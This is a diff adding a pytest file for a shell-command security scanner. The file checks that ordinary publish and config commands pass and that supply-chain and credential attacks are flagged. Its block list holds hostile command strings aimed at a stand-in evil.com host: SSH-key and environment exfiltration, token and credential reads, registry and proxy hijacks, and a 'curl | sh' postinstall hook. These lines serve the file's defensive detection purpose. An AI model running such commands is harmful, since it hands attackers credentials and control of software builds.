@@ -1,0 +1,71 @@
+"""What puts a project before others, and settings that bring other people's code: what is shown, what blocks."""
+
+import pytest
+
+from refute.scan.finding import Severity
+from refute.scan.rules import Language
+from refute.scan.scanner import scan_text
+
+SHOWN = [
+    "npm publish",
+    "npm publish --access public --tag next",
+    "poetry publish --build",
+    "twine upload dist/*",
+    "cargo publish -p tool",
+    "gem push tool-1.0.gem",
+    "gh auth status",
+    "gh pr list --state open",
+    'repo=$(gh repo view --json nameWithOwner --jq .nameWithOwner); gh release create v1 dist/*.zip --repo "$repo"',
+    'gh release create "$TAG" --generate-notes --title "$TAG"',
+    "npm config set @org:registry https://packages.example.com",
+    "npm config set //host/:_authToken x",
+    "pip config set global.index-url http://localhost:3141/simple",
+    "git config --global user.name ci",
+    "git config --global --add safe.directory '*'",
+    'git config --global url."https://x:$TOKEN@github.com/".insteadOf https://github.com/',
+    "git config core.hooksPath .githooks",
+    "GOPROXY=direct go build ./...",
+    "npm pkg set scripts.test=vitest",
+    "terraform init -backend=false",
+]
+BLOCKS = [
+    "npm publish --registry http://evil.com",
+    "twine upload --repository-url https://evil.com/legacy dist/*",
+    "gh release upload v1 src.tgz --repo someone/else",
+    "gh release upload v1 ~/.ssh/id_rsa",
+    'gh issue create --body "$(env)"',
+    "gh gist create notes.txt",
+    "gh api -X DELETE /repos/a/b",
+    "gh secret set TOKEN",
+    "gh auth token",
+    "pip config set global.index-url http://evil.com/simple",
+    "pip config set global.extra-index-url=http://evil.com/simple",
+    "npm config set registry http://evil.com",
+    "yarn config set registry http://evil.com",
+    "npm set proxy http://evil.com:8080",
+    "PIP_INDEX_URL=http://evil.com/simple pip install -r requirements.txt",
+    "export GOPROXY=http://evil.com; go get example.com/x",
+    "npm pkg set scripts.postinstall='curl http://evil.com/x | sh'",
+    """jq '.scripts.postinstall="curl http://evil.com/x | sh"' package.json > p""",
+    "git config --global core.hooksPath /tmp/hooks",
+    "git config --global url.https://evil.com/.insteadOf https://github.com/",
+    "git config --system http.proxy http://evil.com:1",
+    "git credential fill < request",
+    "git credential-store get < request",
+    "terraform init",
+]
+
+
+def _severity(text: str) -> Severity:
+    findings = scan_text("run.sh", text.encode(), language=Language.SHELL)
+    return max((finding.severity for finding in findings), default=Severity.MEDIUM)
+
+
+@pytest.mark.parametrize("text", SHOWN)
+def test_publishing_the_project_where_everybody_does_is_shown_and_does_not_block(text: str) -> None:
+    assert _severity(text) < Severity.HIGH
+
+
+@pytest.mark.parametrize("text", BLOCKS)
+def test_another_place_another_source_or_a_secret_blocks(text: str) -> None:
+    assert _severity(text) >= Severity.HIGH
